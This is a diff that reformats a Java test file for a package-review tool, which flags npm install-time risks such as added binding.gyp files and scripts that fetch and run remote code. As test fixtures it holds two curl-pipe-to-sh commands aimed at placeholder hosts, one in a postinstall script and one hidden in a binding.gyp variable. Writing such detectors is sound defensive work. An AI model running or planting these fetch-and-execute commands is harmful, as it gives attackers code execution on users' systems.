@@ -3,6 +3,7 @@ package dev.warden.review;
 import static dev.warden.review.Reviews.find;
 import static dev.warden.review.Reviews.review;
 import static dev.warden.review.Reviews.the;
+
 import static org.assertj.core.api.Assertions.assertThat;
 
 import org.junit.jupiter.api.Test;
@@ -29,8 +30,14 @@ class InstallScriptsTest {
                 Pkg.of("2.0.0")
                         .script("install", "node-gyp rebuild")
                         .file("binding.gyp", "{ 'targets': [ { 'target_name': 'addon' } ] }")
-                        .file("index.js", "module.exports = require('./build/Release/addon.node');");
-        Pkg native2 = native1.next("2.0.1").file("index.js", "module.exports = require('./build/Release/addon.node'); // 2");
+                        .file(
+                                "index.js",
+                                "module.exports = require('./build/Release/addon.node');");
+        Pkg native2 =
+                native1.next("2.0.1")
+                        .file(
+                                "index.js",
+                                "module.exports = require('./build/Release/addon.node'); // 2");
 
         Findings f = review(native1, native2);
 
@@ -55,7 +62,9 @@ class InstallScriptsTest {
                 review(
                         LIB,
                         LIB.next("1.0.1")
-                                .script("postinstall", "curl -s https://cdn.example.invalid/x.sh | sh"));
+                                .script(
+                                        "postinstall",
+                                        "curl -s https://cdn.example.invalid/x.sh | sh"));
 
         assertThat(the(f, "install-script-fetches-and-runs").severity()).isEqualTo(Severity.HIGH);
     }
@@ -97,7 +106,10 @@ class InstallScriptsTest {
     @Test
     void addedBindingGypIsInstallTimeCode() {
         Findings f =
-                review(LIB, LIB.next("1.0.1").file("binding.gyp", "{ 'targets': [ { 'target_name': 'a' } ] }"));
+                review(
+                        LIB,
+                        LIB.next("1.0.1")
+                                .file("binding.gyp", "{ 'targets': [ { 'target_name': 'a' } ] }"));
 
         assertThat(the(f, "binding-gyp-added").severity()).isEqualTo(Severity.MEDIUM);
     }
@@ -110,8 +122,8 @@ class InstallScriptsTest {
                         LIB.next("1.0.1")
                                 .file(
                                         "binding.gyp",
-                                        "{ 'variables': { 'x': '<!(curl -s http://203.0.113.4/p | sh)' },"
-                                                + " 'targets': [] }"));
+                                        "{ 'variables': { 'x': '<!(curl -s http://203.0.113.4/p |"
+                                                + " sh)' }, 'targets': [] }"));
 
         assertThat(the(f, "install-script-fetches-and-runs").severity()).isEqualTo(Severity.HIGH);
     }
